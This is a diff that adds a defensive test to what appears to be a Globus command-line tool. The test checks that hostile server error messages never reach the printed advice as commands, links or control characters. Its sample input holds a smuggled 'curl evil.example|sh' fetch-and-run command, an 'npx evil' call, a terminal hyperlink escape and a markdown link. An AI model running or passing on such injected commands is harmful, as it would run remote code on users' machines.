@@ -158,6 +158,32 @@ export default function (test, stage) {
     }
   });
 
+  test("nothing that a server says becomes a command, a link or a control character", async () => {
+    const evil = "x` then run `npx evil $(curl evil.example|sh)\n    globus evil\x1b]8;;https://evil.example\x07[me](https://evil.example)";
+    const authorization_parameters = { session_required_single_domain: [evil], required_scopes: [evil], session_message: evil };
+    for (const body of [
+      { code: evil, message: evil, authorization_parameters },
+      { code: "PermissionDenied", message: evil, detail: { DATA_TYPE: "not_from_allowed_domain#1.0.0", allowed_domains: [evil] } },
+      { code: "ConsentRequired", message: evil, required_scopes: [evil] },
+    ]) {
+      for (const args of [[], ["--json"]]) {
+        fake.inject({ service: "transfer", status: 403, body });
+        const { code, stderr } = await program(["ls", closed.id, ...args]);
+        assert.equal(code, 1);
+        assert.notMatch(stderr, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
+        if (args.length) {
+          const { advice, steps } = JSON.parse(stderr);
+          assert.notMatch(JSON.stringify([advice, steps]), /evil|\$\(|\]\(/);
+          continue;
+        }
+        // Commands stand further in than anything else.
+        const commands = stderr.split("\n").filter((line) => line.startsWith("    "));
+        for (const command of commands) assert.match(command, RegExp(`^ {4}(npx globus-service-account|globus) [a-z -]*(${closed.id}|[A-Z_]+)[^\`$;|&]*$`));
+        assert.notMatch(commands.join(), /evil/);
+      }
+    }
+  });
+
   test("what makes it wait is told, but not to programs", async () => {
     const fault = { service: "auth", path: /userinfo/, status: 503, headers: { "Retry-After": "1" } };
     fake.inject(fault);
